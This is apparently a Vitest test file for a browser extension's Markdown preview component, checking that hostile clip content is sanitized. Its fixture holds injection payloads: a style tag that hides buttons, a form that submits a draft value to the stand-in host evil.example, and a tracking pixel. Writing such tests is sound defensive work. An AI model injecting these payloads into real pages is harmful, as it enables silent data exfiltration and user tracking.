import './options/happy-dom-webidl';
import { cleanup, render, screen } from '@testing-library/preact';
import { afterEach, describe, expect, it } from 'vitest';
import { MarkdownPreview } from '@/components/MarkdownPreview';

afterEach(cleanup);

/** What a probe of the built extension put in a clip's answer (its iframe is test/e2e's: happy-dom would try to load it). */
const HOSTILE = [
  'Hello.',
  '<style>button{visibility:hidden}</style>',
  '<form action="https://evil.example/"><input name="q" value="draft"><button>Send</button></form>',
  '![pixel](https://tracker.example/p.gif)',
  '[the thread](https://github.com/mosn/mosn/issues/2203)',
  '- [x] done',
].join('\n\n');

function preview(markdown: string) {
  render(<MarkdownPreview markdown={markdown} label="Preview" className="preview" />);
  return screen.getByRole('region', { name: 'Preview' });
}

describe('the Markdown preview', () => {
  it('renders clip text without anything that restyles or submits the page', () => {
    const region = preview(HOSTILE);
    expect(region.querySelector('style, form, button, [style]')).toBeNull();
    expect([...region.querySelectorAll('input')].map((input) => [input.type, input.disabled])).toEqual([['checkbox', true]]);
    expect(region.textContent).toContain('Send');
  });

  it('shows an image from another host as a link to open it, and loads none from there', () => {
    const region = preview(HOSTILE);
    expect(region.querySelector('img')).toBeNull();
    const standIn = screen.getByRole('link', { name: 'image from tracker.example, not loaded: open it in a new tab' });
    expect([standIn.getAttribute('href'), standIn.getAttribute('target')]).toEqual(['https://tracker.example/p.gif', '_blank']);
    expect(standIn.closest('.preview-image-not-loaded')?.textContent).toContain('pixel');
  });

  it('opens links in a new tab rather than in the page', () => {
    preview(HOSTILE);
    const link = screen.getByRole('link', { name: 'the thread' });
    expect([link.getAttribute('target'), link.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer']);
  });

  it('keeps its content in a box of its own, which the page sizes', () => {
    const region = preview(HOSTILE);
    expect([...region.classList]).toEqual(['markdown-body', 'markdown-preview', 'preview']);
  });
});
